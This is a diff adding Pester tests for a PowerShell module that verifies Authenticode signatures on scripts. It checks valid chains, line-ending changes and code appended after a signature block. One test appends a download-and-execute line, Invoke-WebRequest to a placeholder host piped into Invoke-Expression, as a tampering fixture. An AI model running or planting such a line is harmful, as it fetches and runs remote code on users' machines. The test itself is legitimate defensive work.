@@ -192,3 +192,46 @@ Describe 'Get-FileIntegrity -Signature' {
         (Get-FileIntegrity -LiteralPath $runtimeDll).PSObject.Properties['SignatureStatus'] | Should -BeNullOrEmpty
     }
 }
+
+Describe 'Test-AuthenticodeChain on PowerShell scripts' {
+    BeforeAll {
+        $script:scriptFiles = @(Get-ChildItem -LiteralPath (Join-Path $PSHOME 'Modules') -Recurse -File -Include '*.ps1', '*.psm1', '*.psd1', '*.ps1xml', '*.mof' |
+            Where-Object { (Get-Content -LiteralPath $_.FullName -Raw) -match 'SIG # Begin signature block' })
+        $script:scriptWork = New-TestFolder
+    }
+
+    AfterAll {
+        Remove-Item -LiteralPath $script:scriptWork -Recurse -Force -ErrorAction SilentlyContinue
+    }
+
+    It 'reports every Microsoft-signed script of the running PowerShell as Valid, as FileType PowerShellScript' {
+        $scriptFiles.Count | Should -BeGreaterThan 40
+        $results = Test-AuthenticodeChain -LiteralPath $scriptFiles.FullName
+        ($results | Where-Object Status -NE 'Valid' | ForEach-Object { "$($_.Path): $($_.StatusMessage)" }) | Should -BeNullOrEmpty
+        ($results.FileType | Sort-Object -Unique) | Should -Be 'PowerShellScript'
+        $results[0].RootSubject | Should -Match 'Microsoft'
+    }
+
+    It 'says that line endings changed when a signed script was converted to LF' {
+        $source = $scriptFiles | Where-Object Extension -EQ '.psm1' | Select-Object -First 1
+        $copy = Join-Path $scriptWork $source.Name
+        $text = [IO.File]::ReadAllText($source.FullName)
+        [IO.File]::WriteAllText($copy, $text.Replace("`r`n", "`n"))
+        $result = Test-AuthenticodeChain -LiteralPath $copy
+        $result.Status | Should -Be 'HashMismatch'
+        $result.StatusMessage | Should -Match 'line ending|CRLF|LF'
+    }
+
+    It 'reports code appended after the signature block as UnexpectedData' {
+        $source = $scriptFiles | Where-Object Extension -EQ '.psm1' | Select-Object -First 1
+        $copy = Join-Path $scriptWork ('appended-' + $source.Name)
+        Copy-Item -LiteralPath $source.FullName -Destination $copy
+        Add-Content -LiteralPath $copy -Value 'Invoke-WebRequest https://example.invalid/payload | Invoke-Expression'
+        (Test-AuthenticodeChain -LiteralPath $copy).Status | Should -Be 'UnexpectedData'
+    }
+
+    It 'Get-FileIntegrity -Signature reports script signatures too' {
+        $result = Get-FileIntegrity -LiteralPath $scriptFiles[0].FullName -Signature
+        $result.SignatureStatus | Should -Be 'Valid'
+    }
+}
